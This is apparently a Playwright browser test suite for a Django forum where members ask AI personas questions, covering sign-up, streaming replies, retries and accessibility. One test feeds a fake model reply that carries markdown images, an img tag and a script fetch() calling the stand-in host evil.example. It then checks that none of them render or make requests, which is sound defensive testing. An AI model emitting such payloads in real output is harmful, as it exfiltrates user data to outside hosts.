"""What a person does, from signing up to the receipt of a persona's reply."""

import re

import pytest
import redis
from django.conf import settings
from playwright.sync_api import Page, expect

from forum.models import Ask, Post
from forum.services import asks
from llmconfig.models import ModelProfile
from llmqueue.models import LLMRequest
from tests.browser.axe import barriers
from tests.browser.conftest import FRONT_PAGE, measured_width, sign_in, watch_requests
from tests.conftest import wait_until

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ANSWER = "Two hours on a low flame. Stir it now and then."


@pytest.mark.requirement("F-08", "F-10", "F-35", "F-56", "F-57", "M-84", "P3")
def test_a_newcomer_asks_a_persona_and_reads_the_receipt(
    page: Page, subforum, fake_config, start_worker, fake_llm
):
    ModelProfile.objects.create(key="cheap", config=fake_config)
    start_worker()
    fake_llm.gate.clear()
    fake_llm.always_answers(ANSWER, chunks=8, held_after=4)
    page.goto("/")
    page.get_by_role("link", name="Join").click()
    page.get_by_label("Handle").fill("dora")
    page.get_by_label("Email").fill("dora@example.com")
    page.get_by_label("Password", exact=True).fill("a-long-enough-secret")
    page.get_by_label("Password (again)").fill("a-long-enough-secret")
    page.locator("main form button").first.click()
    page.wait_for_url(FRONT_PAGE)

    page.get_by_role("link", name="Kitchen").first.click()
    page.get_by_role("link", name="New topic").first.click()
    page.get_by_label("Title").fill("Soup")
    page.locator("textarea").fill("How long does it **simmer**?")
    page.get_by_role("button", name="Preview").click()
    expect(page.locator("strong", has_text="simmer")).to_be_visible()
    page.get_by_role("button", name="Open the topic").click()
    page.wait_for_url(re.compile("/t/soup-"))

    page.get_by_role("link", name=re.compile("Ask a persona")).first.click()
    choice = page.get_by_label("Who should answer")
    maestro = choice.locator("option", has_text="Maestro").get_attribute("value")
    choice.select_option(maestro)
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator(".ask .status")).to_contain_text("Maestro")
    expect(page.locator(".ask .words")).to_contain_text("Two hours")
    fake_llm.gate.set()

    reply = page.locator("article.post.persona")
    expect(reply).to_contain_text(ANSWER)
    expect(page.locator(".ask")).to_have_count(0)
    reply.locator("summary").click()
    receipt = reply.locator("details.receipt")
    expect(receipt).to_contain_text("Maestro v1")
    expect(receipt).to_contain_text("asked for")
    expect(receipt).to_contain_text("Fake model")
    receipt.get_by_role("link", name="The whole explanation").click()
    expect(page.locator("main")).to_contain_text("the site's default")


@pytest.mark.requirement("C-17", "F-60")
def test_without_javascript_everything_works_by_reload(
    plain_page: Page, question: Post, bob, web, start_worker, fake_llm
):
    page = plain_page
    fake_llm.always_answers(ANSWER)
    sign_in(page, bob, web)
    page.goto(question.topic.get_absolute_url())
    page.get_by_role("link", name=re.compile("Ask a persona")).first.click()
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator(".ask .status")).to_contain_text("waiting")

    start_worker()
    wait_until(lambda: not LLMRequest.objects.unfinished().exists())
    page.reload()

    expect(page.locator("article.post.persona")).to_contain_text(ANSWER)


@pytest.mark.requirement("F-60")
def test_a_failed_ask_says_why_and_can_be_asked_again(
    page: Page, question: Post, alice, web, start_worker, fake_llm
):
    start_worker()
    fake_llm.answers(status=401)
    fake_llm.always_answers(ANSWER)
    sign_in(page, alice, web)
    asks.ask(post=question, member=alice)
    page.goto(question.topic.get_absolute_url())
    expect(page.locator(".ask")).to_contain_text("refused the key")

    page.get_by_role("button", name=re.compile("again", re.I)).click()

    expect(page.locator("article.post.persona")).to_contain_text(ANSWER)


def test_who_comes_midway_first_gets_the_text_so_far(
    page: Page, question: Post, alice, start_worker, fake_llm
):
    start_worker()
    fake_llm.gate.clear()
    fake_llm.answers("One two three four five six seven.", chunks=8, held_after=4)
    request = asks.ask(post=question, member=alice).request
    with redis.Redis.from_url(settings.REDIS_URL) as valkey:
        wait_until(lambda: valkey.keys(f"live:text:{request.public_id}:*"))

    page.goto(question.topic.get_absolute_url())

    words = page.locator(".ask .words")
    expect(words).to_contain_text("One two")
    fake_llm.gate.set()
    expect(page.locator("article.post.persona")).to_be_visible()


def test_a_double_click_is_one_ask(page: Page, question: Post, alice, web, fake_llm):
    sign_in(page, alice, web)
    page.goto(question.topic.get_absolute_url())
    page.get_by_role("link", name=re.compile("Ask a persona")).first.click()

    page.get_by_role("button", name="Ask", exact=True).dblclick()
    expect(page.locator(".ask").first).to_be_visible()
    page.wait_for_timeout(500)

    assert Ask.objects.count() == 1


@pytest.mark.fault("B3")
def test_a_hostile_reply_asks_for_nothing_outside(
    page: Page, question: Post, alice, web, start_worker, fake_llm
):
    hostile = (
        "![x](https://evil.example/?d=1) <img src=https://evil.example/2>"
        " <script>fetch('https://evil.example/3')</script>"
        " [a]: https://evil.example/4\n\n![a]"
    )
    outside = watch_requests(page.context, web)
    start_worker()
    fake_llm.always_answers(hostile, chunks=20, delay=0.05)
    asks.ask(post=question, member=alice)
    page.goto(question.topic.get_absolute_url())

    expect(page.locator("article.post.persona")).to_be_visible()
    page.wait_for_timeout(300)

    assert outside == []
    assert page.locator(".prose script, .prose img").count() == 0


@pytest.mark.requirement("F-37")
def test_axe_finds_nothing_in_a_guests_queue_and_beside_a_message(
    page: Page, question: Post, alice, web
):
    asks.ask(post=question, member=alice)
    page.goto("/queue/")
    expect(page.locator("li.request")).to_have_count(1)
    of_guest = barriers(page)

    sign_in(page, alice, web)
    page.goto("/settings/")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_role("status").filter(has_text="saved")).to_be_visible()
    of_message = barriers(page)

    assert of_guest == []
    assert of_message == []


@pytest.mark.requirement("F-37")
@pytest.mark.parametrize("width", [360, 1600])
def test_pages_fit_and_axe_finds_nothing(
    page: Page, question: Post, alice, web, start_worker, fake_llm, width
):
    fake_llm.always_answers(ANSWER)
    start_worker()
    asks.ask(post=question, member=alice)
    wait_until(lambda: not LLMRequest.objects.unfinished().exists())
    page.set_viewport_size({"width": width, "height": 800})
    sign_in(page, alice, web)
    ask = Ask.objects.get()
    addresses = [
        "/",
        "/s/kitchen/",
        "/s/kitchen/new/",
        question.topic.get_absolute_url(),
        f"/posts/{question.pk}/ask/",
        ask.get_absolute_url(),
        "/settings/",
        "/u/alice/",
    ]

    for address in addresses:
        page.goto(address)
        document, window = measured_width(page)
        assert document <= window, address
        assert barriers(page) == []
